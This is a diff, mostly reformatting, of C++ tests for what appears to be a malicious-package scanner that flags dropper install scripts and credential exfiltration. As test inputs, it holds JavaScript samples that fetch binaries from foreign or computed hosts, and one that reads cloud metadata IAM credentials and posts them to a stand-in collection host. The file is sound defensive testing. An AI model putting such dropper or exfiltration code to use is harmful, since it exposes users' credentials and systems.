@@ -26,7 +26,8 @@ std::string installer(const std::string& url_line) {
          "const fs = require('fs');\n"
          "const child_process = require('child_process');\n"
          "// See https://docs.example.invalid/install for the fallback order.\n"
-         "const map = { 'linux x64': '@nimblecc/linux-x64', 'darwin arm64': '@nimblecc/darwin-arm64' };\n"
+         "const map = { 'linux x64': '@nimblecc/linux-x64', 'darwin arm64': "
+         "'@nimblecc/darwin-arm64' };\n"
          "const pkg = map[process.platform + ' ' + process.arch];\n"
          "function fetch(url) {\n"
          "  return new Promise((ok, no) => https.get(url, (res) => {\n"
@@ -72,19 +73,21 @@ TEST_CASE("an install script fetching its own platform binary from its registry 
 TEST_CASE("a platform binary fetched from elsewhere, computed or hidden stays a dropper",
           "[engine][threats][own-binary]") {
   SECTION("another host") {
-    auto a = analyse(installer("  const url = `https://cdn.example.invalid/${pkg}/-/b-1.2.3.tgz`;\n"),
-                     k_registry);
+    auto a =
+        analyse(installer("  const url = `https://cdn.example.invalid/${pkg}/-/b-1.2.3.tgz`;\n"),
+                k_registry);
     CHECK(has(a.threats, "dropper"));
     CHECK(a.risk == Risk::critical);
   }
   SECTION("a computed host") {
-    auto a = analyse(
-        installer("  const url = `https://${process.env.MIRROR}/${pkg}/-/b-1.2.3.tgz`;\n"),
-        k_registry);
+    auto a =
+        analyse(installer("  const url = `https://${process.env.MIRROR}/${pkg}/-/b-1.2.3.tgz`;\n"),
+                k_registry);
     CHECK(has(a.threats, "dropper"));
   }
   SECTION("the archive came from another registry than the one in the script") {
-    auto a = analyse(installer(k_own_url), "https://mirror.example.test/nimblecc/-/nimblecc-1.2.3.tgz");
+    auto a =
+        analyse(installer(k_own_url), "https://mirror.example.test/nimblecc/-/nimblecc-1.2.3.tgz");
     CHECK(has(a.threats, "dropper"));
   }
   SECTION("a name that is not one of its optional dependencies") {
@@ -144,9 +147,10 @@ TEST_CASE("a credential path named far from network code is no exfiltration",
       "const paths = { win: 'C:/Program Files/BraveSoftware/Brave-Browser/Application/brave.exe',"
       " mac: '/Applications/Google Chrome.app' };\n"
       "exports.browser = () => paths[process.platform];\n";
-  std::string network = "const https = require('https');\n"
-                        "exports.send = (d) => https.request({ host: require('os').hostname() })"
-                        ".end(d);\n";
+  std::string network =
+      "const https = require('https');\n"
+      "exports.send = (d) => https.request({ host: require('os').hostname() })"
+      ".end(d);\n";
   SECTION("in different modules of one bundle") {
     auto a = run_one("dist/bundle.js", browsers + filler(6000) + network);
     CHECK(a.risk < Risk::high);
@@ -162,7 +166,8 @@ TEST_CASE("a credential path named far from network code is no exfiltration",
 }
 
 TEST_CASE("a '$' in a JavaScript name is no environment read", "[engine][lexical]") {
-  auto a = run_one("lib/zip.js", "let password = getOptionValue$1(entry, options, OPTION_PASSWORD);\n");
+  auto a =
+      run_one("lib/zip.js", "let password = getOptionValue$1(entry, options, OPTION_PASSWORD);\n");
   CHECK(std::none_of(a.findings.begin(), a.findings.end(),
                      [](const Finding& f) { return f.rule == "sensitive-env-name"; }));
   auto b = run_one("run.sh.js", "const cmd = 'echo ${NPM_TOKEN}';\n");
@@ -172,14 +177,16 @@ TEST_CASE("a '$' in a JavaScript name is no environment read", "[engine][lexical
 
 TEST_CASE("the cloud metadata service is a credential source, not a destination",
           "[engine][threats]") {
-  std::string sdk = "const http = require('http');\n"
-                    "exports.credentials = () => http.get('http://169.254.169.254/latest/"
-                    "meta-data/iam/security-credentials/', { headers: { 'User-Agent': 'sdk' } });\n";
+  std::string sdk =
+      "const http = require('http');\n"
+      "exports.credentials = () => http.get('http://169.254.169.254/latest/"
+      "meta-data/iam/security-credentials/', { headers: { 'User-Agent': 'sdk' } });\n";
   auto a = run_one("lib/credentials.js", sdk);
   CHECK(a.risk < Risk::high);
   auto b = run_one("lib/credentials.js",
-                   sdk + "http.request({ host: 'collect.example.invalid' }).end(JSON.stringify("
-                         "exports.credentials()) + 'https://pastebin.com/raw/x');\n");
+                   sdk +
+                       "http.request({ host: 'collect.example.invalid' }).end(JSON.stringify("
+                       "exports.credentials()) + 'https://pastebin.com/raw/x');\n");
   CHECK(has(b.threats, "exfiltration"));
   CHECK(b.risk >= Risk::high);
 }
